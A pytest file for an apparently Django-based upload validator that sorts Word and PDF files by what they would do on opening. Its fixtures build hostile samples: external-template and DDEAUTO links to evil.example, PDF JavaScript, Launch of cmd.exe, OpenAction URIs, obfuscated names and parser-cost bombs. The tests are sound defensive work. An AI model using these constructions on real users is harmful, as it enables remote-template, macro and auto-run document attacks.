"""What would do something by itself is refused with the reason, and no file costs more than half a second."""

from __future__ import annotations

import io
import os
import zipfile
import zlib
from functools import partial
from typing import TYPE_CHECKING

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from documents.apart import Bounds
from meetings.active import ACTS, EMBEDDED, LOCKED, MACROS, OUTSIDE, UNREADABLE
from meetings.uploads import MAX_BYTES, examine
from members.refusal import Refused
from tests.sample import this_weeks

if TYPE_CHECKING:
    from collections.abc import Callable

RELS = "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECONDS = 0.5
DDE_IN_PARTS = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>"


def word(types: str = "<Types/>", **parts: str | bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", types)
        for name, content in {"word/document.xml": "<w:p>Dự thảo</w:p>", **parts}.items():
            made.writestr(name, content)
    return held.getvalue()


def link(kind: str, to: str = "http://evil.example/x", mode: str = "TargetMode='External'") -> str:
    return f"<Relationships><Relationship Id='r1' Type='{OFFICE}/{kind}' Target='{to}' {mode}/></Relationships>"


def pdf(objects: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + objects + b"\nendobj\n%%EOF\n"


def packed(objects: bytes, how: bytes = b"/Filter /FlateDecode") -> bytes:
    held = zlib.compress(objects)
    return pdf(b"<</Type /ObjStm /N 1 /First 4 " + how + b">>\nstream\r\n" + held + b"\nendstream")


def hidden(objects: bytes) -> bytes:
    """Packed, with the word at which a careless reader takes the packing to end."""
    first, rest = b"4 0 (endstream)", zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = zlib.compressobj(0)
    begun = plain.compress(first) + plain.flush(zlib.Z_FULL_FLUSH)
    return begun + rest.compress(objects) + rest.flush() + zlib.adler32(first + objects).to_bytes(4, "big")


def begin(code: str) -> str:
    return f"<x:fldChar x:fldCharType='begin'/><x:instrText> {code} </x:instrText>"


def answer(content: bytes) -> str:
    try:
        return examine(SimpleUploadedFile("du-thao", content)).type
    except Refused as refused:
        return refused.sentence if refused.field == "file" else ""


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (word(**{RELS: link("hyperlink")}), "docx"),
        (word(**{RELS: link("image", "media/1.png", "")}), "docx"),
        (word(**{RELS: link("attachedTemplate")}), OUTSIDE),
        (
            word(**{"word/_rels/settings.xml.rels": link("attachedTemplate", mode='TargetMode = "Ex&#116;ernal"')}),
            OUTSIDE,
        ),
        (word(**{RELS: link("image").encode("utf-16")}), OUTSIDE),
        (word(**{RELS: link("frame")}), OUTSIDE),
        (
            word(**{"word/document.xml": "<w:p>" + DDE_IN_PARTS + "</w:p>"}),
            OUTSIDE,
        ),
        *[
            (word(**{"word/document.xml": f"<x:p>{field}</x:p>"}), expected)
            for field, expected in [
                ("<x:fldSimple x:instr=' page \\\\* MERGEFORMAT'/>", "docx"),
                (begin('HYPERLINK "http://example.vn"') + "<x:t>mẫu</x:t><x:fldChar x:fldCharType='end'/>", "docx"),
                ("<x:fldSimple x:dirty='>' x:instr='DDEAUTO c:'/>", OUTSIDE),
                (begin("QUOTE 68 68 69 65 85 84 79"), OUTSIDE),
                (begin("") + begin("REF ten") + "<x:fldChar x:fldCharType='end'/>", OUTSIDE),
                (begin('INCLUDEPICTURE "http://evil.example"'), OUTSIDE),
                (begin('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'), OUTSIDE),
                ("<v:imagedata src='http://evil.example/x.png'/>", OUTSIDE),
            ]
        ],
        (word(**{RELS: link("attachedTemplate", mode="TargetMode='External' xmlns:type='urn:a/hyperlink'")}), OUTSIDE),
        (word(**{RELS: link("attachedTemplate", mode="xmlns:a='>' TargetMode='External'")}), OUTSIDE),
        (word(**{RELS: link("attachedTemplate").encode("utf-16-be")}), OUTSIDE),
        (word(**{RELS: link("oleObject", "o.dat", "xmlns='http://x/package/2006/relationships'")}), EMBEDDED),
        (word(**{RELS: link("header", "header1.dat", "")}), UNREADABLE),
        (word(**{"_rels/.rels": link("officeDocument", "word/other.xml", "")}), UNREADABLE),
        (word(**{RELS: "<!DOCTYPE a [<!ENTITY b 'External'>]>" + link("image", mode="TargetMode='&b;'")}), UNREADABLE),
        (word(**{"word/embeddings/oleObject1.bin": "x"}), EMBEDDED),
        (word(**{RELS: link("oleObject", "any.dat", "")}), EMBEDDED),
        (word(**{RELS: link("aFChunk", "any.html", "")}), EMBEDDED),
        (word(**{"word/VbaProject.BIN": "x"}), MACROS),
        (word(**{RELS: link("vbaProject", "hinh.png", "")}), MACROS),
        (word('<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), MACROS),
        (pdf(b"<</Type /Catalog>>"), "pdf"),
        (pdf(b"<</S /JavaScript /JS (app.alert\\(1\\))>>"), ACTS),
        (pdf(b"<</S /J#61va#53cript>>"), ACTS),
        (pdf(b"<</S/Launch/F(cmd.exe)>>"), ACTS),
        (pdf(b"<</Type/Filespec/EF<</F 3 0 R>>>> <</Type/EmbeddedFile>>"), EMBEDDED),
        (packed(b"4 0 <</Type /Page>>"), "pdf"),
        (packed(b"4 0 <</S /JavaScript>>"), ACTS),
        (packed(b"4 0 <</S /#4aavaScript>>"), ACTS),
        (packed(b"4 0", b"/Filter [/ASCIIHexDecode /FlateDecode]"), UNREADABLE),
        (pdf(b"<</Encrypt 5 0 R>>"), LOCKED),
        (packed(b"4 0 <</S /JavaScript>>", b"/Filter 7 0 R"), UNREADABLE),
        (packed(b"4 0 <</S /JavaScript>>", b"/X(1 0 obj) /Filter /FlateDecode"), UNREADABLE),
        (pdf(b"<</Type /ObjStm /Filter /FlateDecode>>stream\n" + hidden(b"<</S /JavaScript>>") + b"\nendstream"), ACTS),
        (pdf(b"<</OpenAction<</S/Rendition/JS(app.alert\\(1\\))>>>>"), ACTS),
        (pdf(b"<</OpenAction<</S/GoToE/F(x)>>>>"), ACTS),
        (pdf(b"<</OpenAction<</S/URI/URI(http://evil.example)>>>>"), ACTS),
        (pdf(b"<</OpenAction 9 0 R>>\nendobj\n9 0 obj<</S/URI/URI(http://evil.example)>>"), ACTS),
        (pdf(b"<</OpenAction 4 0 R>> endobj 8 0 obj") + packed(b"4 0 <</S/URI/URI(http://evil.example)>>"), ACTS),
        (pdf(b"<</AA <</O 9 0 R>>>>"), ACTS),
        (pdf(b"<</OpenAction[3 0 R/Fit]>> <</Subtype/Link/A<</S/URI/URI(http://example.vn)>>>>"), "pdf"),
        (pdf(b"<</OpenAction 9 0 R>> <</A<</S/URI/URI(x)>>>>\nendobj\n9 0 obj<</S/GoTo/D[3 0 R/Fit]>>"), "pdf"),
    ],
)
def test_a_file_is_known_by_what_it_would_do(content: bytes, expected: str) -> None:
    assert answer(content) == expected


PIECES = ["<", "<w:p ", "<w:t>M ", "&#", "A-", "M Ậ T ", "a MẬT b\n", "<w:instrText", "<w:p/>", "MẬT </w:p>", "\u0301"]
NAMES = [b"/", b"/J", b"/#4a#61", b"/ObjStm ", b"/ObjStm/FlateDecode stream\n", b"(", b"obj stream", b"/Title("]
ONE_PACKED = b"/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b"x")
LISTS = ["<", "<a>", "&#", "type = '", "type "]


def bombs() -> dict[str, Callable[[], bytes]]:
    """Made when they are needed: each is some megabytes."""
    found: dict[str, Callable[[], bytes]] = {
        "pdf, packed flood": lambda: packed(b"/J " * 10_000_000),
        "pdf, many packed": lambda: b"%PDF-1.7\n" + packed(b"/J " * 2000)[9:] * 1990,
        "pdf, no object before": lambda: b"%PDF-1.7\n" + (b"/ObjStm" + b"/A" * 350 + b" " * 3250 + b"stream\n") * 1999,
        "pdf, one end": lambda: (b"%PDF-1.7\n" + ONE_PACKED * 1999).ljust(MAX_BYTES - 9) + b"endstream",
        "pdf, one end for each": lambda: (b"%PDF-1.7\n" + b"1 0 obj<<" + ONE_PACKED * 1999).ljust(MAX_BYTES),
        "docx, flood": lambda: word(**{"word/document.xml": "<w:p>" + "a" * 90_000_000}),
    }
    for piece in PIECES:
        for size in (8_000_000, 900_000):
            found[f"docx {piece} {size}"] = partial(_filled, "word/document.xml", piece, size)
    for piece in LISTS:
        found[f"lists {piece}"] = partial(_filled, RELS, piece, 2_000_000)
    for name in NAMES:
        found[f"pdf {name!r}"] = partial(_named, name)
    return found


def _filled(part: str, piece: str, size: int) -> bytes:
    return word(**{part: (piece * size)[:size]})


def _named(name: bytes) -> bytes:
    return (b"%PDF-1.7\n" + name * MAX_BYTES)[:MAX_BYTES]


@pytest.mark.in_turn
def test_no_file_up_to_the_limit_costs_more_than_half_a_second() -> None:
    slow = {}
    for name, made in this_weeks([*bombs().items()]):
        content = made()
        least = min(_seconds(content) for _ in range(2))
        if least > SECONDS:
            slow[name] = least
    assert slow == {}


def _seconds(content: bytes) -> float:
    """Of a processor, here and beside."""
    begun = sum(os.times()[:4])
    answer(content)
    return sum(os.times()[:4]) - begun


@pytest.mark.parametrize("bomb", ["pdf, no object before", "pdf, one end", "pdf, one end for each"])
def test_what_was_built_to_take_minutes_is_refused_in_no_time(bomb: str) -> None:
    content = bombs()[bomb]()
    assert (answer(content), _seconds(content) < SECONDS) == (UNREADABLE, True)


def test_what_takes_too_much_all_the_same_is_refused_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    def for_ever(data: bytes) -> None:
        while True:
            pass

    monkeypatch.setattr("meetings.uploads.judge_pdf", for_ever)
    monkeypatch.setattr("meetings.uploads.BOUNDS", Bounds(seconds=1))
    assert answer(pdf(b"")) == UNREADABLE


def test_what_was_not_looked_at_to_its_end_is_refused() -> None:
    assert answer(bombs()["pdf, packed flood"]()) == UNREADABLE
    assert answer(packed(b"4 0").replace(b"endstream", b"")) == UNREADABLE
